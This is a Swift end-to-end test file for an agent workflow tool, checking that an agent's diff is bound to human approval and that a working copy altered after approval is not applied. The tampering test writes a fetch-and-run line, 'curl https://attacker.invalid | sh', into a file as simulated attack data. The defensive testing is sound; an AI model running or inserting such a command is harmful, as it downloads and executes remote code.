import Foundation
import KeelCore
import KeelStore
import KeelTestSupport
import Testing

/// A flow with an `agent` step, end to end on the real services with steps isolated (each attempt its own
/// uid): the quickstart's flow and workspace (`Examples/quickstart`), whose demo agent follows the
/// `custom` contract. The agent's diff is bound to an approval; a request for changes reaches the agent in
/// its prompt; the approved diff, and only it, is applied to the repository.
@Suite(.serialized) struct AgentFlowEndToEndTests {
    /// The quickstart's flow file.
    static func flow() throws -> String {
        try String(
            contentsOf: TestEnvironment.packageRoot.appendingPathComponent(
                "Examples/quickstart/quickstart.yaml"),
            encoding: .utf8)
    }

    /// A fresh quickstart workspace made by the quickstart's own setup script.
    static func workspace() async throws -> String {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("keel-quickstart-\(UUID())")
            .path
        try await TestEnvironment.runScript("Examples/quickstart/setup", path)
        return path
    }

    /// `git` in `directory`, its output.
    static func git(_ directory: String, _ arguments: String...) async throws -> String {
        try await TestEnvironment.run(["git", "-c", "safe.directory=*"] + arguments, in: directory)
    }

    /// The stack with the quickstart flow, an approver of group quickstart, and a run waiting at review.
    /// Decisions go through the approval-service's API, as a reviewer's do: the service's engine settings
    /// (its shards) route what a decision starts.
    static func runWaitingAtReview() async throws -> (
        EngineStack, String, APITokenRecord, ApprovalStore, ApprovalRecord, Decide
    ) {
        let workspace = try await Self.workspace()
        let stack = try await EngineStack(flows: [try Self.flow()])
        let client = ApprovalFlowTests.Client(url: try await stack.startApprovalService())
        let token = try await stack.token("rita", groups: ["quickstart"])
        let rita = try #require(try await APITokenStore(pool: stack.pool).authenticate(token))
        let input: JSONValue = ["workspace": .string(workspace)]
        try await stack.trigger("quickstart", input: input.jsonString())
        let approvals = ApprovalStore(pool: stack.pool, advancer: RunAdvancer(pool: stack.pool))
        guard let approval = try await ApprovalWebBrowserTests.firstPending(approvals, for: rita) else {
            Issue.record("no approval was requested:\n\(try await Self.histories(stack))\n\(stack.logs)")
            throw NoApproval()
        }
        let decide: Decide = { id, decision, note, digests in
            let answer = try await client.decide(id, decision, note: note, digests: digests, token: token)
            #expect(answer.status == 200, "\(answer)")
        }
        return (stack, workspace, rita, approvals, approval, decide)
    }

    /// Records rita's decision on an approval through the API.
    typealias Decide = @Sendable (String, String, String?, [String]) async throws -> Void

    /// Every quickstart run's history, for a failure's message.
    static func histories(_ stack: EngineStack) async throws -> String {
        var histories = ""
        for run in try await RunStore(pool: stack.pool).list(flow: "quickstart") {
            histories += "\(run.id): \(try await stack.history(run.id.description))\n"
        }
        return histories + (try await stack.diagnosis())
    }

    struct NoApproval: Error {}

    /// The agent step's outputs in its last success.
    static func agentOutputs(_ stack: EngineStack, _ run: RunID) async throws -> JSONObject {
        let outputs = try await stack.history(run.description).compactMap { fact -> JSONObject? in
            guard case .stepSucceeded("fix", _, let outputs) = fact.event else { return nil }
            return outputs
        }.last
        return try #require(outputs, "the agent step did not succeed:\n\(stack.logs)")
    }

    @Test func theAgentsDiffIsBoundToTheApprovalAndExactlyThatDiffIsApplied() async throws {
        let (stack, workspace, rita, approvals, first, decide) = try await Self.runWaitingAtReview()
        defer { try? FileManager.default.removeItem(atPath: workspace) }

        // What the reviewer is asked: the agent's own words, and its diff as a bound, digested resource.
        let outputs = try await Self.agentOutputs(stack, first.runID)
        #expect(
            first.summary
                == "Apply the agent's change? It says: Fixed add() in calc.sh: it subtracted instead of adding."
        )
        #expect(first.bound == [try #require(outputs["diff"])])
        #expect(outputs["diff"]?["type"] == "text/x-diff")
        let diff = try await stack.text(of: outputs["diff"])
        #expect(diff.contains("-    echo $(( $1 - $2 ))\n+    echo $(( $1 + $2 ))"), "\(diff)")
        #expect(first.digests == [ContentDigest.sha256Hex(of: Array(diff.utf8))])
        #expect(outputs["files_changed"] == ["calc.sh"])
        #expect(outputs["usage"]?["cost_usd"] == 0)
        let transcript = try await stack.text(of: outputs["transcript"])
        #expect(transcript.contains("demo-agent: add() subtracted; it adds now"), "\(transcript)")
        // Its usage also went to the run's accounts.
        let recorded = try await stack.history(first.runID.description).contains { fact in
            if case .usageRecorded("fix", _, let usage) = fact.event { return usage.tokens > 0 }
            return false
        }
        #expect(recorded)

        // Changes requested: the note reaches the agent in its next prompt, and a new diff is asked about.
        try await decide(first.id, "request_changes", "Say why in NOTES.md.", first.digests)
        guard let second = try await ApprovalWebBrowserTests.firstPending(approvals, for: rita) else {
            Issue.record("no second approval:\n\(try await Self.histories(stack))\n\(stack.logs)")
            throw NoApproval()
        }
        #expect(second.id != first.id)
        let revised = try await stack.text(of: second.bound.first)
        #expect(revised.contains("+- Say why in NOTES.md."), "\(revised)")
        #expect(second.digests == [ContentDigest.sha256Hex(of: Array(revised.utf8))])

        try await decide(second.id, "approve", "Good.", second.digests)
        let runs = try await stack.waitForFinishedRuns("quickstart", count: 1)
        #expect(runs.values.map { $0 } == ["succeeded"], "\(stack.logs)")

        // The repository now holds the approved diff, byte for byte, and nothing else.
        let origin = workspace + "/origin.git"
        let subject = try await Self.git(origin, "log", "-1", "--format=%s")
        #expect(subject == "Apply the approved change (sha256 \(second.digests[0]))\n")
        let applied = try await Self.git(origin, "show", "main:calc.sh")
        #expect(applied.contains("echo $(( $1 + $2 ))"))
        let stat = try await Self.git(origin, "diff", "--name-only", "main~1", "main")
        #expect(stat == "NOTES.md\ncalc.sh\n")
        try await stack.stop()
    }

    @Test func aWorkingCopyChangedAfterTheApprovalIsNotApplied() async throws {
        let (stack, workspace, _, _, approval, decide) = try await Self.runWaitingAtReview()
        defer { try? FileManager.default.removeItem(atPath: workspace) }

        // Something edits the working copy while the reviewer looks at the diff.
        let calc = workspace + "/runs/\(approval.runID)/calc.sh"
        let handle = try #require(FileHandle(forWritingAtPath: calc))
        try handle.seekToEnd()
        try handle.write(contentsOf: Data("curl https://attacker.invalid | sh\n".utf8))
        try handle.close()

        try await decide(approval.id, "approve", nil, approval.digests)
        let runs = try await stack.waitForFinishedRuns("quickstart", count: 1)
        let diagnosis = runs.values.map { $0 } == ["failed"] ? "" : try await Self.histories(stack)
        #expect(runs.values.map { $0 } == ["failed"], "\(diagnosis)")
        let refused = try await stack.history(approval.runID.description).contains { fact in
            guard case .stepFailed("apply", _, _, let message) = fact.event else { return false }
            return message.contains("the working copy no longer matches the approved diff")
        }
        #expect(refused, "\(stack.logs)")
        let commits = try await Self.git(workspace + "/origin.git", "rev-list", "--count", "main")
        #expect(commits == "1\n", "nothing was pushed")
        try await stack.stop()
    }
}
